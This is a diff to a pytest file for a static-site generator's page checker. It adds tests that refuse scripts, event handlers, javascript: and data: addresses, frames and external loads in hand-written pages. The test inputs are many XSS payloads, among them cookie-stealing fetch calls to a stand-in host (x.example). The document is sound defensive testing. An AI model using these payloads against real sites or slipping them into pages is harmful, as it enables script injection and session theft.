@@ -1,13 +1,29 @@
-"""generator.pagecheck.external_loads: what a built page would load from another host."""
+"""generator.pagecheck: what a built page would load from another host (external_loads), and
+what a hand-written page may not hold at all: scripts, event handlers, script addresses,
+frames and external loads hidden in HTML, SVG or CSS (page_findings, stylesheet_findings)."""
 
 from __future__ import annotations
+
+import re
+from pathlib import Path
 
 import markdown
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from generator.pagecheck import css_loads, external_loads, is_external, srcset_addresses
+from generator.csp import inline_scripts, script_source
+from generator.pagecheck import (
+    Finding,
+    css_loads,
+    external_loads,
+    is_external,
+    markdown_page_findings,
+    page_findings,
+    srcset_addresses,
+    stylesheet_findings,
+)
+from support import run_cli_in_process, write_fragment
 
 X = "https://example.com/x"
 
@@ -193,3 +209,294 @@ def test_no_page_of_the_built_fixture_site_loads_anything_from_elsewhere(fixture
         str(page.relative_to(fixture_site.site)): external_loads(page.read_text(encoding="utf-8")) for page in pages
     }
     assert {page: loads for page, loads in found.items() if loads} == {}
+
+
+# ====================================================== scripts in hand-written pages
+
+
+def problems(html: str) -> list[str]:
+    return [finding.problem for finding in page_findings(html)]
+
+
+SCRIPT = "this page has a <script> element (a program that every reader's browser would run)"
+NO_SCRIPT = "remove it: hand-written pages may hold no script"
+
+
+def handler(name: str, tag: str) -> str:
+    return f"the attribute '{name}' of <{tag}> runs a script when the reader's browser calls it"
+
+
+def script_address(name: str, tag: str) -> str:
+    return f"the attribute '{name}' of <{tag}> holds a javascript: address, which runs a script"
+
+
+class TestInlineScripts:
+    @pytest.mark.parametrize(
+        "html",
+        [
+            "<script>fetch('https://x.example/?' + document.cookie)</script>",
+            "<SCRIPT>alert(1)</SCRIPT>",
+            "<script/x>alert(1)</script>",
+            "<script src='../assets/okb-search.js'></script>",  # a script of this site: any script
+            '<script type="application/json">{"a": 1}</script>',
+            "<svg><script>alert(1)</script></svg>",
+            "<!-- <script>alert(1)</script> -->",  # a comment a browser may end sooner
+        ],
+    )
+    def test_any_script_element_is_refused(self, html):
+        assert problems(html) == [SCRIPT]
+
+    def test_the_finding_names_the_line_and_what_to_do(self):
+        html = "<h1>About</h1>\n<p>Our work.</p>\n\n<script>\nalert(1)\n</script>\n"
+        assert page_findings(html) == [Finding(4, SCRIPT, NO_SCRIPT, "<script")]
+
+
+class TestEventHandlers:
+    @pytest.mark.parametrize(
+        "html, name, tag",
+        [
+            ("<img src=x onerror=alert(1)>", "onerror", "img"),
+            ("<IMG SRC=x ONERROR='alert(1)'>", "onerror", "img"),
+            ("<svg/onload=alert(1)>", "onload", "svg"),
+            ("<img src=x\tonerror\n=\n'alert(1)'>", "onerror", "img"),
+            ("<img src=x/onerror=alert(1)>", None, None),  # an unquoted value: src is 'x/onerror=…'
+            ("<body onpageshow=alert(1)>", "onpageshow", "body"),
+            ("<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>", "onbegin", "animate"),
+            ("<details open ontoggle=alert(1)>", "ontoggle", "details"),
+        ],
+    )
+    def test_every_on_attribute_in_any_case_or_spacing_is_refused(self, html, name, tag):
+        assert problems(html) == ([handler(name, tag)] if name else [])
+
+    def test_whole_finding(self):
+        assert page_findings('<p>x</p>\n<p onclick="go()">y</p>') == [
+            Finding(2, handler("onclick", "p"), "remove 'onclick=…': hand-written pages may hold no script", "onclick")
+        ]
+
+
+class TestScriptAddresses:
+    @pytest.mark.parametrize(
+        "html, name, tag",
+        [
+            ("<a href='javascript:alert(1)'>x</a>", "href", "a"),
+            ("<a href=' JavaScript:alert(1)'>x</a>", "href", "a"),
+            ("<a href='jav&#x09;ascript&colon;alert(1)'>x</a>", "href", "a"),
+            ("<a href='java\nscript:alert(1)'>x</a>", "href", "a"),
+            ("<a href='vbscript:msgbox(1)'>x</a>", "href", "a"),
+            ("<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "xlink:href", "a"),
+            ("<form action='javascript:alert(1)'></form>", "action", "form"),
+            ("<form><button formaction='javascript:alert(1)'>go</button></form>", "formaction", "button"),
+            ("<svg><set attributeName='fill' to='javascript:alert(1)'/></svg>", "to", "set"),
+            ("<svg><animate attributeName='fill' values='red;javascript:alert(1)'/></svg>", "values", "animate"),
+        ],
+    )
+    def test_javascript_addresses_are_refused(self, html, name, tag):
+        assert problems(html) == [script_address(name, tag)]
+
+    @pytest.mark.parametrize(
+        "html, name, tag",
+        [
+            ("<a href='data:text/html,<script>alert(1)</script>'>x</a>", "href", "a"),
+            ("<a href='data:image/svg+xml;base64,PHN2Zz4='>x</a>", "href", "a"),
+            ("<svg><use href='data:image/svg+xml,&lt;svg/&gt;#x'/></svg>", "href", "use"),
+            ("<img src='data:text/html;base64,PHNjcmlwdD4='>", "src", "img"),
+        ],
+    )
+    def test_data_addresses_that_are_not_pictures_are_refused(self, html, name, tag):
+        assert problems(html) == [f"the attribute '{name}' of <{tag}> holds a data: address that is not a picture"]
+
+    def test_pictures_written_into_the_page_and_plain_links_pass(self):
+        html = """
+        <img src="data:image/png;base64,iVBORw0KGgo=" alt="logo" srcset="data:image/webp;base64,AA 2x">
+        <svg><image href="data:image/jpeg;base64,/9j/4AAQ" width="1" height="1"/></svg>
+        <a href="https://partner.example/report.pdf">report</a> <a href="mailto:info@example.org">write</a>
+        <p>JavaScript: a language. <code>&lt;script&gt;alert(1)&lt;/script&gt;</code> shown as code.</p>
+        <p title="onclick">a title</p> <a href="#javascript:">an anchor</a>
+        """
+        assert page_findings(html) == []
+
+
+class TestEmbeddingElements:
+    @pytest.mark.parametrize(
+        "html, problem",
+        [
+            ("<iframe src='video.html'></iframe>", "this page has an <iframe> (another page shown inside this one)"),
+            ("<frameset><frame src='a.html'></frameset>", None),
+            ("<object data='a.pdf'></object>", "this page has an <object> (a plug-in or another page shown inside this one)"),
+            ("<embed src='a.swf'>", "this page has an <embed> (a plug-in or another page shown inside this one)"),
+            ("<base href='/elsewhere/'>", "this page has a <base> element (it sends every relative address of the page to another place)"),
+            (
+                "<svg><foreignObject><div>html</div></foreignObject></svg>",
+                "this page has an SVG <foreignObject> (a web page inside a drawing, which can carry scripts)",
+            ),
+            ("<meta http-equiv='Refresh' content='0; url=other.html'>", 'this page sends readers to another page by itself (<meta http-equiv="refresh">)'),
+        ],
+    )  # fmt: skip
+    def test_frames_plugins_base_foreign_objects_and_refresh_are_refused(self, html, problem):
+        found = problems(html)
+        assert found and (problem is None or found == [problem]), found
+
+
+class TestSvgTricks:
+    @pytest.mark.parametrize("attribute", ["href", "xlink:href", "HREF"])
+    def test_animating_an_address_is_refused_whatever_it_is_set_to(self, attribute):
+        html = f"<svg><a><set attributeName='{attribute}' to='https://x.example/'/><text>go</text></a></svg>"
+        animated = attribute.lower()
+        assert (
+            f"the animation <set> changes the attribute '{animated}', an address or script of the drawing"
+            in problems(html)
+        )
+
+    def test_animating_a_colour_passes(self):
+        assert page_findings("<svg><rect><animate attributeName='fill' values='red;blue' dur='2s'/></rect></svg>") == []
+
+    @pytest.mark.parametrize(
+        "style",
+        [
+            "rect { fill: url(https://x.example/p.svg#g) }",
+            "@import 'https://x.example/a.css';",
+            "@import url(//x.example/a.css);",
+            "rect { fill: \\75 rl(https://x.example/p.svg) }",  # \75 is u
+            "rect { fill: u/**/rl(x) } rect { background: url( 'h\\74tps://x.example/b.png' ) }",
+            "@import '&#104;ttps://x.example/a.css';",  # SVG reads character references
+        ],
+    )
+    def test_external_loads_in_an_svg_style_are_refused_naming_the_line(self, style):
+        html = f"<svg xmlns='http://www.w3.org/2000/svg'>\n<style>\n.a {{ fill: red }}\n{style}\n</style>\n</svg>"
+        found = page_findings(html)
+        assert found and all(f.problem.startswith("this page loads ") and f.line == 4 for f in found), found
+
+    def test_use_and_image_of_another_host_are_refused(self):
+        html = "<svg><use href='https://x.example/i.svg#a'/>\n<image href='//x.example/p.png'/></svg>"
+        assert [(f.line, f.problem) for f in page_findings(html)] == [
+            (
+                1,
+                "this page loads https://x.example/i.svg#a from another host; the site may load nothing from elsewhere",
+            ),
+            (2, "this page loads //x.example/p.png from another host; the site may load nothing from elsewhere"),
+        ]
+
+
+class TestStyleSheets:
+    def test_imports_and_urls_of_another_host_are_refused_with_their_lines(self):
+        css = (
+            "/* our colours */\n"
+            "@import 'local.css';\n"
+            "@import url('https://fonts.example/css?family=X');\n"
+            "body { background: url(img/bg.png) }\n"
+            "/* url(https://commented.example/) */\n"
+            ".a {\n  background:\n    \\75 rl(//x.example/p.png);\n}\n"
+            ".b { background: image-set('https://y.example/q.png' 1x) }\n"
+        )
+        assert [(f.line, f.problem) for f in stylesheet_findings(css)] == [
+            (3, "this style sheet loads https://fonts.example/css?family=X from another host; "
+                "the site may load nothing from elsewhere"),
+            (8, "this style sheet loads //x.example/p.png from another host; the site may load nothing from elsewhere"),
+            (10, "this style sheet loads https://y.example/q.png from another host; "
+                 "the site may load nothing from elsewhere"),
+        ]  # fmt: skip
+
+    def test_a_style_sheet_of_this_site_passes(self):
+        assert (
+            stylesheet_findings("@import 'a.css'; .x { background: url(data:image/png;base64,AA) url(/b.png) }") == []
+        )
+
+
+class TestMarkdownPages:
+    """Markdown makes HTML of its own syntax: the rendered page decides, the source gives the line."""
+
+    def render(self, source: str) -> list[Finding]:
+        return markdown_page_findings(markdown.markdown(source, extensions=["attr_list"]), source)
+
+    def test_a_javascript_link_written_in_markdown_is_refused_on_its_line(self):
+        source = "# About\n\nWrite to us.\n\n[Click here](javascript:alert(1))\n"
+        assert [(f.line, f.problem) for f in self.render(source)] == [(5, script_address("href", "a"))]
+
+    def test_an_attribute_list_handler_is_refused_on_its_line(self):
+        source = '# About\n\nSome text\n{: onmouseover="alert(1)" }\n'
+        assert [(f.line, f.problem) for f in self.render(source)] == [(4, handler("onmouseover", "p"))]
+
+    def test_raw_html_is_found_on_its_own_line(self):
+        source = '---\ntitle: About\n---\n# About\n\n<img src=x.png onerror="alert(1)">\n'
+        assert [(f.line, f.problem) for f in self.render(source)] == [(6, handler("onerror", "img"))]
+
+    def test_a_script_shown_as_code_is_text(self):
+        source = "# About\n\nWe never use `<script>` tags:\n\n    <script>alert(1)</script>\n"
+        assert self.render(source) == []
+
+
+# --------------------------------------------------------------- whole messages in a build
+
+
+@pytest.mark.parametrize(
+    "name, text, message",
+    [
+        (
+            "partners.md",
+            "# Partners\n\nOur partners.\n\n[Their site](javascript:fetch('//x.example/'+document.cookie))\n",
+            "line 5: the attribute 'href' of <a> holds a javascript: address, which runs a script "
+            "(remove it, or write the address of a page instead)",
+        ),
+        (
+            "map.svg",
+            '<svg xmlns="http://www.w3.org/2000/svg">\n<rect width="10" height="10"/>\n'
+            '<circle r="2" onload="alert(1)"/>\n</svg>\n',
+            "line 3: the attribute 'onload' of <circle> runs a script when the reader's browser calls it "
+            "(remove 'onload=…': hand-written pages may hold no script)",
+        ),
+        (
+            "print.css",
+            "body { color: black }\n@import 'https://x.example/print.css';\n",
+            "line 2: this style sheet loads https://x.example/print.css from another host; the site may load "
+            "nothing from elsewhere (save the file into content/pages/ and refer to it by a relative address, "
+            "or make it a plain link)",
+        ),
+        (
+            "about.md",
+            '---\ntitle: "About</title><img src=x onerror=alert(1)>"\n---\n# About\n\nOur work.\n',
+            "line 2: the attribute 'onerror' of <img> runs a script when the reader's browser calls it "
+            "(remove 'onerror=…': hand-written pages may hold no script)",
+        ),
+        (
+            "visit.js",
+            "fetch('https://x.example/')\n",
+            "this is a script; the site runs no script of a hand-written page (remove the file from content/pages/)",
+        ),
+    ],
+    ids=["markdown javascript link", "svg handler", "css import", "front matter title", "script file"],
+)
+def test_a_refused_page_stops_the_build_naming_file_line_and_what_to_do(tmp_path, name, text, message):
+    content = tmp_path / "content"
+    (content / "pages").mkdir(parents=True)
+    write_fragment(content, "ok")
+    page = content / "pages" / name
+    page.write_text(text, encoding="utf-8")
+    site = tmp_path / "site"
+    result = run_cli_in_process(
+        "build", "--quiet", "--content", str(content), "--site-dir", str(site), "--docs-dir", str(tmp_path / "docs")
+    )
+    assert result.returncode == 1
+    separator = ", " if message.startswith("line ") else ": "
+    assert result.stderr.splitlines()[0] == f"Error: {page}{separator}{message}"
+    assert not site.exists()
+
+
+# ------------------------------------------------- the policy of the built pages (no browser)
+
+
+def test_every_inline_script_of_every_built_page_is_listed_by_its_page_policy(fixture_site):
+    """The policy allows the theme's scripts by hash, never 'unsafe-inline'; each page lists
+    exactly the scripts it needs to run (the browser tests show they run)."""
+    policy = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"')
+    pages = sorted(fixture_site.site.rglob("*.html"))
+    unlisted = {}
+    for path in pages:
+        html = path.read_text(encoding="utf-8")
+        script_src = next(d for d in policy.search(html)[1].split(";") if d.strip().startswith("script-src"))
+        assert "'unsafe-inline'" not in script_src, path
+        scripts = inline_scripts(html)
+        assert scripts, path  # Material's own, at least
+        missing = [script[:40] for script in scripts if script_source(script) not in script_src.split()]
+        if missing:
+            unlisted[str(Path(path).relative_to(fixture_site.site))] = missing
+    assert unlisted == {}
